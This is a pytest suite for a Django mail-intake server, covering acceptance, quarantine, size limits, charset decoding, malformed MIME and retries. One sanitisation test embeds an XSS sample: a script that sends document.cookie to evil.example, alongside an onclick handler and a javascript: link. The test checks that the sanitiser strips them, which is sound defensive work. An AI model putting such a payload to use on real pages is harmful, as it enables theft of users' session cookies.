"""The intake server over real SMTP and LMTP (smtplib against aiosmtpd on a free port): what is
accepted, refused, stored and made of each letter."""

from __future__ import annotations

import hashlib
import smtplib
import threading
from pathlib import Path

import pytest
from django.core import mail as outbox
from django.utils import timezone

from civicplan.accounts.models import SenderAddress
from civicplan.mailintake import actions, processing
from civicplan.mailintake import server as server_module
from civicplan.mailintake.models import InboundMessage
from civicplan.mailintake.server import IntakeServer
from civicplan.mailintake.storage import INCOMING, Spool
from civicplan.newsroom.models import Submission
from civicplan.plans.models import Activity
from tests.mailintake.conftest import Intake
from tests.mailintake.letters import (
    COORDINATOR,
    EXE,
    JPEG,
    NEWS,
    PDF,
    POST_RELEASE_SUBJECT,
    POST_RELEASE_TEXT,
    b64,
    docx,
    file_part,
    headers,
    modern,
    multipart,
    rfc2231,
    text_part,
)

Status = InboundMessage.Status


def only_message() -> InboundMessage:
    [message] = InboundMessage.objects.all()
    return message


def perm_forum() -> Activity:
    return Activity.objects.get(title__startswith="II Всероссийский форум «Здоровые города для")


def test_a_coordinators_letter_becomes_a_submission_in_review(
    intake: Intake, plan, coordinator, mail_settings: Path
) -> None:
    raw = modern(files=(("Фото с форума.jpg", JPEG, "image/jpeg"),))
    assert intake.send(raw) == {}
    message = only_message()
    assert message.status == Status.PROCESSED
    assert (message.attempts, message.error) == (1, "")
    assert (message.mail_from, message.rcpt_tos) == (COORDINATOR, [NEWS])
    assert message.peer.startswith("127.0.0.1:")
    assert message.subject == POST_RELEASE_SUBJECT
    assert message.message_id == "modern-1@perm.example"
    # The letter on disk is the bytes that came over the wire, under the day it came.
    stored = (mail_settings / message.raw_path).read_bytes()
    assert stored == raw
    assert message.size == len(stored)
    assert message.sha256 == hashlib.sha256(stored).hexdigest()
    assert message.raw_path.startswith(timezone.localtime(message.received).strftime("%Y/%m/%d/"))
    assert message.raw_path.endswith(".eml")

    submission = message.submission
    assert submission.status == Submission.Status.IN_REVIEW
    assert submission.source == Submission.Source.EMAIL
    assert submission.kind == Submission.Kind.POST_RELEASE
    assert submission.author == coordinator
    assert submission.organisation == coordinator.coordinator.organisation
    assert submission.sender_email == COORDINATOR
    assert submission.title == POST_RELEASE_SUBJECT
    assert submission.text == POST_RELEASE_TEXT
    # The activity is guessed and explained, not set: staff confirm it.
    assert submission.activity is None
    assert submission.activity_guess == perm_forum()
    assert submission.activity_guess_reason.startswith("совпали слова: поколение, подросток")
    assert "город: Пермь" in submission.activity_guess_reason
    assert "дата: 18 апреля 2024" in submission.activity_guess_reason
    [photo] = submission.attachments.all()
    assert (photo.name, photo.type, photo.file.read()) == ("Фото с форума.jpg", "jpeg", JPEG)


def test_lmtp(lmtp_intake: Intake, coordinator) -> None:
    assert lmtp_intake.send(modern()) == {}
    message = only_message()
    assert message.status == Status.PROCESSED
    assert message.submission.author == coordinator


@pytest.mark.parametrize("charset", ["windows-1251", "koi8-r"])
def test_russian_code_pages_read_right(intake: Intake, coordinator, charset: str) -> None:
    text = 'Пресс-релиз: в Перми пройдёт конкурс "Здоровый город". Ждём участников!'
    name = "Положение о конкурсе.pdf"
    raw = multipart(
        b64("Пресс-релиз о конкурсе", charset),
        [text_part(text, charset), file_part(f"filename*={rfc2231(name, charset)}", PDF)],
    )
    intake.send(raw)
    submission = only_message().submission
    assert submission.title == "Пресс-релиз о конкурсе"
    assert submission.text == text
    assert submission.kind == Submission.Kind.PRESS_RELEASE
    assert [a.name for a in submission.attachments.all()] == [name]


def test_html_only_letter_is_sanitised(intake: Intake, coordinator) -> None:
    html = (
        '<p onclick="steal()">Прошла <b>акция</b> «Зарядка для всех!»</p>'
        "<script>document.location='https://evil.example/'+document.cookie</script>"
        '<a href="javascript:alert(1)">ссылка</a> <a href="https://perm.example/">сайт</a>'
    )
    raw = headers(b64("Пост-релиз акции", "utf-8")) + (
        b"Content-Type: text/html; charset=utf-8\r\n\r\n" + html.encode() + b"\r\n"
    )
    intake.send(raw)
    submission = only_message().submission
    for unsafe in ("<script", "evil.example", "onclick", "javascript:"):
        assert unsafe not in submission.html
    assert "<b>акция</b>" in submission.html
    assert 'href="https://perm.example/"' in submission.html
    assert submission.text == "Прошла акция «Зарядка для всех!»\nссылка сайт"
    assert "evil" not in submission.text


def test_a_forwarded_letter(intake: Intake, coordinator) -> None:
    text = (
        "Коллеги, пересылаю пост-релиз нашего министерства.\n\n"
        "-------- Пересланное сообщение --------\n"
        "От: Минздрав <press@minzdrav.example>\n"
        f"Тема: {POST_RELEASE_SUBJECT}\n\n{POST_RELEASE_TEXT}\n"
    )
    intake.send(modern(subject="Fwd: " + POST_RELEASE_SUBJECT, text=text))
    submission = only_message().submission
    assert submission.author == coordinator  # the sender of the outer letter
    assert submission.sender_email == COORDINATOR
    assert submission.title == POST_RELEASE_SUBJECT
    assert submission.text == POST_RELEASE_TEXT
    assert submission.kind == Submission.Kind.POST_RELEASE


def test_a_letter_from_an_address_bound_to_an_organisation(intake: Intake, organisation) -> None:
    SenderAddress.objects.create(email="Info@Perm.example", organisation=organisation)
    intake.send(modern(sender="info@perm.example"), mail_from="info@perm.example")
    submission = only_message().submission
    assert submission.status == Submission.Status.IN_REVIEW
    assert submission.author is None
    assert submission.organisation == organisation
    assert submission.sender_email == "info@perm.example"


def test_an_unknown_sender_goes_to_quarantine(intake: Intake, coordinator) -> None:
    intake.send(modern(sender="stranger@mail.example"), mail_from="stranger@mail.example")
    message = only_message()
    assert message.status == Status.QUARANTINED
    assert message.submission.status == Submission.Status.QUARANTINE
    assert message.submission.organisation is None
    assert message.submission.sender_email == "stranger@mail.example"


def test_the_sender_is_acknowledged(intake: Intake, coordinator) -> None:
    intake.send(modern(files=(("report.pdf", EXE, "application/pdf"),)))
    [letter] = outbox.outbox
    assert letter.to == [COORDINATOR]
    assert "report.pdf" in letter.body  # the refused file is named


def test_an_auto_reply_is_kept_but_not_answered(intake: Intake, coordinator) -> None:
    raw = modern(subject="Автоответ: Пост-релиз").replace(
        b"MIME-Version", b"Auto-Submitted: auto-replied\r\nMIME-Version", 1
    )
    intake.send(raw)
    submission = only_message().submission
    assert submission.status == Submission.Status.IN_REVIEW
    assert submission.organisation == coordinator.coordinator.organisation
    assert (submission.author, submission.sender_email) == (None, "")
    assert outbox.outbox == []  # no acknowledgement to an autoresponder: no mail loop


def test_a_bounce_is_kept_but_not_answered(intake: Intake) -> None:
    raw = modern(sender="mailer-daemon@mail.example", subject="Undelivered Mail Returned")
    intake.send(raw, mail_from="")  # MAIL FROM:<>
    message = only_message()
    assert message.status == Status.QUARANTINED
    assert message.submission.sender_email == ""
    assert outbox.outbox == []


def test_an_executable_named_pdf_is_not_stored(intake: Intake, coordinator) -> None:
    files = (
        ("report.pdf", EXE, "application/pdf"),
        ("программа.docx", docx(), "application/octet-stream"),
    )
    intake.send(modern(files=files))
    message = only_message()
    assert message.status == Status.PROCESSED
    assert [a.name for a in message.submission.attachments.all()] == ["программа.docx"]
    [refused] = message.refused_attachments
    assert refused["name"] == "report.pdf"
    assert "не PDF, DOCX, XLSX, JPEG или PNG по содержимому" in refused["reason"]


def test_a_wrong_recipient_is_refused_at_rcpt(intake: Intake) -> None:
    with intake.client() as client, pytest.raises(smtplib.SMTPRecipientsRefused) as refused:
        client.sendmail(COORDINATOR, ["director@zdorovye-goroda.example"], modern())
    code, text = refused.value.recipients["director@zdorovye-goroda.example"]
    assert code == 550
    assert text.startswith(b"5.1.1 <director@zdorovye-goroda.example>: Recipient address rejected")
    assert not InboundMessage.objects.exists()


def test_recipients_are_matched_ignoring_case(intake: Intake, coordinator) -> None:
    with intake.client() as client:
        refused = client.sendmail(
            COORDINATOR, ["NEWS@Zdorovye-Goroda.example", "x@y.example"], modern()
        )
    assert refused == {"x@y.example": (550, refused["x@y.example"][1])}
    intake.server.drain()
    assert only_message().rcpt_tos == ["NEWS@Zdorovye-Goroda.example"]


def big_letter() -> bytes:
    """26 MB: a letter with a 19.5 MB file, base64-encoded (the limit is 25 MB)."""
    content = b"%PDF-1.4\n" + bytes(range(256)) * (19_500_000 // 256)
    return modern(files=(("big.pdf", content, "application/pdf"),))


def test_size_is_advertised_and_a_bigger_letter_refused_at_mail_from(intake: Intake) -> None:
    raw = big_letter()
    assert len(raw) > 26_000_000
    with intake.client() as client:
        client.ehlo()
        assert client.esmtp_features["size"] == str(25 * 1024 * 1024)
        with pytest.raises(smtplib.SMTPSenderRefused) as refused:
            client.sendmail(COORDINATOR, [NEWS], raw)  # smtplib sends SIZE=
    assert refused.value.smtp_code == 552
    assert refused.value.smtp_error.startswith(b"5.3.4 ")
    assert not InboundMessage.objects.exists()


def test_a_bigger_letter_without_size_is_refused_after_data(
    intake: Intake, mail_settings: Path
) -> None:
    with intake.client() as client:
        client.ehlo()
        del client.esmtp_features["size"]  # a sender that does not say the size in advance
        with pytest.raises(smtplib.SMTPDataError) as refused:
            client.sendmail(COORDINATOR, [NEWS], big_letter())
    assert refused.value.smtp_code == 552
    assert refused.value.smtp_error.startswith(b"5.3.4 ")
    assert not InboundMessage.objects.exists()
    assert not list(mail_settings.rglob("*.eml"))
    assert list((mail_settings / INCOMING).iterdir()) == []  # the spool is gone too


@pytest.mark.parametrize(
    "raw",
    [
        # A multipart whose boundary never comes.
        headers(b64("Пост-релиз", "utf-8"))
        + b'Content-Type: multipart/mixed; boundary="lost"\r\n\r\n'
        + b"--other\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        + "Текст пост-релиза о форуме.".encode()
        + b"\r\n--other--\r\n",
        # Junk before the headers, a header without a name, broken base64.
        b"\x01\x02 junk\r\nFrom: press@perm.example\r\nSubject: =?utf-8?B?broken\r\n"
        b": nameless\r\nContent-Type: text/plain; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        b"0KLQtdC60YHRgiDQv9C+0YHRgi3RgNC10LvQuNC30LA=*!\r\n",
        # A body in an unknown charset with raw 8-bit bytes.
        headers("x")
        + b"Content-Type: text/plain; charset=x-made-up\r\n\r\n"
        + "Текст пост-релиза".encode("koi8-r")
        + b"\r\n",
    ],
)
def test_malformed_mime_is_stored_and_read_best_effort(
    intake: Intake, coordinator, raw: bytes
) -> None:
    assert intake.send(raw) == {}
    message = only_message()
    assert message.read_raw() == raw
    assert message.status == Status.PROCESSED, message.error
    assert "пост-релиз" in message.submission.text.lower()


def test_a_letter_with_nothing_in_it_is_kept_in_the_failed_list(intake: Intake) -> None:
    raw = b"From: press@perm.example\r\nSubject:\r\n\r\n"
    assert intake.send(raw) == {}
    message = only_message()
    assert message.status == Status.FAILED
    assert message.error == "В письме нет ни темы, ни текста, ни вложений."
    assert message.read_raw() == raw


def test_an_error_in_processing_keeps_the_letter_for_a_retry(
    intake: Intake, plan, coordinator, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*args, **kwargs):
        raise RuntimeError("the guesser broke")

    monkeypatch.setattr(processing, "guess_activity", broken)
    raw = modern()
    intake.send(raw)
    message = only_message()
    assert message.status == Status.FAILED
    assert message.error == "RuntimeError: the guesser broke"
    assert message.attempts == 1
    assert message.read_raw() == raw
    assert not Submission.objects.exists()

    monkeypatch.undo()
    message = actions.retry(None, message)
    assert message.status == Status.PROCESSED
    assert (message.attempts, message.error) == (2, "")
    assert message.submission.activity_guess == perm_forum()


def test_a_letter_that_could_not_be_stored_is_refused_temporarily(
    intake: Intake, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full_disk(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Spool, "keep", full_disk)
    with intake.client() as client, pytest.raises(smtplib.SMTPDataError) as refused:
        client.sendmail(COORDINATOR, [NEWS], modern())
    assert refused.value.smtp_code == 451  # the sender keeps it and tries again
    assert not InboundMessage.objects.exists()


def test_the_same_letter_twice_makes_one_submission(intake: Intake, coordinator) -> None:
    raw = modern()
    intake.send(raw)
    intake.send(raw)
    first, second = InboundMessage.objects.order_by("pk")
    assert first.submission is not None
    assert (second.status, second.submission) == (Status.PROCESSED, None)
    assert f"№ {first.pk}" in second.error
    assert Submission.objects.count() == 1


def test_stopping_leaves_waiting_letters_for_the_next_start(
    transactional_db, coordinator, monkeypatch: pytest.MonkeyPatch
) -> None:
    started, release = threading.Event(), threading.Event()

    def slow(message: InboundMessage) -> InboundMessage:
        started.set()
        release.wait(30)
        return actions.process(message)

    monkeypatch.setattr(server_module, "process", slow)
    first = Intake(IntakeServer("127.0.0.1", 0))
    first.server.start()
    with first.client() as client:
        client.sendmail(COORDINATOR, [NEWS], modern(subject="Первое"))
        client.sendmail(COORDINATOR, [NEWS], modern(subject="Второе"))
    assert started.wait(30)
    stopping = threading.Thread(target=first.server.stop)
    stopping.start()
    assert first.server.stopping.wait(30)
    release.set()
    stopping.join(30)
    statuses = dict(InboundMessage.objects.values_list("subject", "status"))
    assert statuses == {"Первое": Status.PROCESSED, "Второе": Status.STORED}

    second = IntakeServer("127.0.0.1", 0)
    second.start()
    second.drain()
    second.stop()
    assert set(InboundMessage.objects.values_list("status", flat=True)) == {Status.PROCESSED}


def test_letters_stored_but_not_processed_are_processed_at_start(
    transactional_db, coordinator
) -> None:
    waiting = actions.receive(modern(), mail_from=COORDINATOR, rcpt_tos=[NEWS])
    assert waiting.status == Status.STORED
    server = IntakeServer("127.0.0.1", 0)
    server.start()
    try:
        server.drain()
    finally:
        server.stop()
    waiting.refresh_from_db()
    assert waiting.status == Status.PROCESSED
